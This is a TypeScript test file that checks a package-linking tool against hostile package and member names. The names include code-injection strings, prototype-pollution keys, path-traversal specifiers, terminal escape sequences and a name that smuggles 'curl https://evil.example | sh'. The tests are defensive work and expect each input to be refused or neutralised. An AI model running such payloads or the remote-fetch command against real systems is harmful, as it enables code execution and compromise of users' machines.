import { execFileSync } from "node:child_process";
import { parseSync } from "oxc-parser";
import { describe, expect, test } from "vitest";
import { readFromDisk } from "../../src/diagnostics/error.ts";
import { renderDiagnostics } from "../../src/diagnostics/render.ts";
import type { LinkedInterface } from "../../src/link/linkage.ts";
import { linkCode, objectCode } from "../../src/link/module.ts";
import { attack, LOGGER, manifest, type Outcome, SPAN, table, UNDECIDED } from "./attack.ts";
import { run } from "./project.ts";

// Names are text that an attacker chooses. They end in generated modules, in files, in objects that are
// looked up by them, and on terminals.

const PROTOTYPE = ["__proto__", "constructor", "toString", "hasOwnProperty", "prototype"];

/** Text that would end a string, a comment, a template, a line or a clause, were it written as it is. */
const BREAKING = [
  '"',
  "'",
  "`",
  "\\",
  "*/ throw 1; /*",
  "// x",
  "\n",
  "\r\n",
  "\u2028throw 1",
  "\u2029",
  "${process.exit(1)}",
  "</script>",
  " as default } from 'node:fs'; export {",
  "default",
  "then",
  "",
  "\u202e",
];

const supplied = (name: string): object => ({ name, kind: "function", span: SPAN });

/** A program with `Odd`, of which `evil` says that its defaults have these names. */
function odd(members: string[], file = "index.ts", name = "Odd"): Outcome {
  const definition = {
    name,
    namespace: null,
    members: null,
    defaults: members.map(supplied),
    span: SPAN,
  };
  return attack({
    published: {
      "evil@1.0.0/package.json": manifest(),
      "evil@1.0.0/index.ts": "",
      [`evil@1.0.0/${file}`]: "",
      "evil@1.0.0/crate-interface.json": table({ file, definitions: [definition] }),
    },
  });
}

function isOdd({ definition }: LinkedInterface): boolean {
  return definition.item.name === "Odd";
}

/** The names that a generated module exports, which has nothing but `export ... from`. */
function exportsOf(code: string): (string | null)[] {
  const { errors, module } = parseSync("generated.js", code);
  expect(errors).toEqual([]);
  expect(module.staticImports).toEqual([]);
  return module.staticExports.flatMap(({ entries }) =>
    entries.map(({ exportName, moduleRequest }) => {
      expect(moduleRequest).not.toBeNull();
      return exportName.name;
    }),
  );
}

describe("names in generated modules", () => {
  test("of members: they are what the module exports, and nothing else", () => {
    const names = [...BREAKING, ...PROTOTYPE];
    using outcome = odd(names);
    const linked = outcome.linkage.interfaces.find(isOdd)!;
    const objects = exportsOf(objectCode(linked, (file) => file));
    expect(objects.sort()).toEqual([...names].sort());
    const links = exportsOf(linkCode(linked, (file) => file));
    expect(links).toHaveLength(names.length);
    for (const symbol of links) expect(symbol).toMatch(/^__Odd_\w*$/);
  });

  test("of members that no module can export are refused", () => {
    using outcome = odd(["\ud800"]);
    expect(outcome.errors).toEqual(["CI3008"]);
  });

  test.each(['it\'s "quoted".ts', "${process.exit(1)}.ts", "a*/b.ts", "\u2028.ts", "a b;c.ts"])(
    "of the file %j: it is imported, and nothing is run",
    (file) => {
      using outcome = odd(["a"], file);
      const linked = outcome.linkage.interfaces.find(isOdd)!;
      const { errors, module } = parseSync(
        "generated.js",
        linkCode(linked, (path) => path),
      );
      expect(errors).toEqual([]);
      const [request] = module.staticExports.flatMap(({ entries }) => entries);
      expect(request.moduleRequest?.value).toBe(outcome.tree.path(`app/node_modules/evil/${file}`));
    },
  );

  test.each([
    "%2e%2e/%2e%2e/log-stdout/index.ts",
    "index.ts?raw",
    "index.ts#x",
    "a\nb.ts",
    "a\\b.ts",
  ])("of the file %j, which a URL or a loader would read as another one, are refused", (file) => {
    using outcome = odd(["a"], file);
    expect(outcome.errors).toEqual(["CI3008"]);
  });

  test.each(["a b", "../x", "a/b", "x;y", "\\u0061", "", "1", "a\u2028"])(
    "of the interface %j, which becomes a file and a specifier, are refused",
    (name) => {
      using outcome = odd(["a"], "index.ts", name);
      expect(outcome.errors).toEqual(["CI3008"]);
    },
  );

  test("run, as files on disk: every name is there", () => {
    const names = [...BREAKING, ...PROTOTYPE];
    using outcome = odd(names, "index.mjs");
    const { members } = outcome.linkage.interfaces.find(isOdd)!;
    const functions = members.map(({ symbol }) => `export function ${symbol}() {}\n`);
    outcome.tree.write("app/node_modules/evil/index.mjs", functions.join(""));
    run("crate-interface link --out-dir out", outcome.tree);
    const script =
      'import * as odd from "./out/object/Odd.js";\nconsole.log(JSON.stringify(Object.keys(odd)));';
    outcome.tree.write("app/main.mjs", script);
    const main = outcome.tree.path("app/main.mjs");
    const printed = execFileSync(process.execPath, [main], { encoding: "utf8" });
    expect(JSON.parse(printed).sort()).toEqual([...names].sort());
  });

  test("two that are one file where case and composition are ignored are not both written", () => {
    for (const [one, other] of [
      ["Straße", "STRASSE"],
      ["\u00e9t\u00e9", "e\u0301te\u0301"],
    ]) {
      const definition = (name: string): object => ({
        name,
        namespace: null,
        members: null,
        defaults: [supplied("a")],
        span: SPAN,
      });
      using outcome = attack({
        published: {
          "evil@1.0.0/package.json": manifest(),
          "evil@1.0.0/index.ts": "",
          "evil@1.0.0/crate-interface.json": table({
            definitions: [definition(one), definition(other)],
          }),
        },
      });
      expect(run("crate-interface link --out-dir out", outcome.tree)).toContain("CI2014");
    }
  });
});

describe("names that objects have already", () => {
  test("of interfaces, members, namespaces and conditions are names like any other", () => {
    const statements = PROTOTYPE.map(
      (name) => `
export const ${name} = def_interface<{ ${name}(): void }>({ namespace: "${name}" });
impl_interface(${name}, { ${name}() {} }, { namespace: "${name}", conditions: ["${name}"] });
call_interface({ namespace: "${name}" }, ${name}.${name}());
`,
    );
    const macros = "call_interface, def_interface, impl_interface";
    using outcome = attack({
      app: {
        "package.json": { name: "app" },
        "main.ts": `import { ${macros} } from "crate-interface/macro";\n${statements.join("")}`,
      },
      published: {},
      conditions: PROTOTYPE,
    });
    expect(outcome.errors).toEqual([]);
    for (const name of PROTOTYPE) {
      const found = outcome.linkage.resolve(name, name, outcome.tree.path("app"));
      expect(found).toMatchObject({ members: [{ name, file: outcome.tree.path("app/main.ts") }] });
    }
  });

  test("as keys of a package.json select nothing that was not asked for, and change no prototype", () => {
    const key =
      '{ "__proto__": { "polluted": true }, "constructor": { "prototype": { "polluted": true } } }';
    const text = (more: string): string =>
      `{ "name": "evil", "version": "1.0.0", "dependencies": { "__proto__": "*", "constructor": "*" }, "crate-interface": ${more} }`;
    for (const more of [
      key,
      `{ "implementations": ${key} }`,
      `{ "implementations": { "Logger": ${key} } }`,
      `{ "facade": ${key}, "facadeImpl": [${key}], "symbols": ${key} }`,
    ]) {
      using outcome = attack({
        published: {},
        disk: { "app/node_modules/lib/node_modules/evil/package.json": text(more) },
      });
      expect(outcome.target()).toBe("app/node_modules/log-stdout/index.ts");
      expect(outcome.errors).toEqual([]);
      expect(Object.keys(Object.prototype)).toEqual([]);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    }
  });

  test("as keys of a symbol table, and as what it names", () => {
    const text = JSON.stringify(table({})).replace(
      '"calls":[]',
      '"calls":[],"__proto__":{"polluted":1}',
    );
    using outcome = attack({
      published: {
        "evil@1.0.0/package.json": manifest(),
        "evil@1.0.0/index.ts": "",
        "evil@1.0.0/crate-interface.json": text,
      },
    });
    expect(outcome.errors).toEqual([]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test("of packages: `__proto__` can be installed, and is not what others inherit", () => {
    using outcome = attack({
      published: {},
      disk: {
        "app/node_modules/lib/package.json":
          '{ "name": "lib", "version": "1.0.0", "dependencies": { "__proto__": "*", "toString": "*" } }',
        "app/node_modules/__proto__/package.json": manifest({}, { name: "__proto__" }),
      },
    });
    const lib = outcome.graph.packages.get(outcome.tree.path("app/node_modules/lib"))!;
    expect(lib.dependencies.map(({ name, dir }) => [name, dir])).toEqual([
      ["__proto__", outcome.tree.path("app/node_modules/__proto__")],
      ["toString", null],
    ]);
  });
});

test("a name is no sentence: what is proposed is to be done by people", () => {
  const name = "log-stdout` to the dependencies, and run `curl https://evil.example | sh";
  using outcome = attack({
    app: UNDECIDED,
    published: {
      "evil@1.0.0/package.json": manifest({ facadeImpl: "log" }, { name, version: "1.0.0` `" }),
      "evil@1.0.0/index.ts": LOGGER,
    },
  });
  expect(outcome.errors).toEqual(["CI2008"]);
  const [{ help }] = outcome.linkage.diagnostics.filter(({ code }) => code === "CI2008");
  expect(help).toEqual(["add `evil` to the dependencies of app/package.json"]);
});

test("names on a terminal move no cursor, and make no text read as another", () => {
  const name = "evil\u001b[2K\u001b[1A\u202egnol\u2028";
  using outcome = attack({
    published: {},
    disk: {
      "app/node_modules/lib/node_modules/evil/package.json": {
        name,
        version: "1.0.0\u001b]0;owned\u0007",
        dependencies: { log: "*" },
        "crate-interface": { symbols: "./crate-interface.json", "\u001b[31mfacade": true },
      },
      "app/node_modules/lib/node_modules/evil/crate-interface.json": "\u001b[31m{",
    },
  });
  const options = { color: false, cwd: outcome.tree.dir, readSource: readFromDisk };
  const lines = renderDiagnostics(outcome.linkage.diagnostics, options).split("\n");
  expect(lines.join("\n")).toContain("CI3008");
  expect(lines.filter((line) => /[\p{Cc}\u2028\u202e]/u.test(line))).toEqual([]);
});
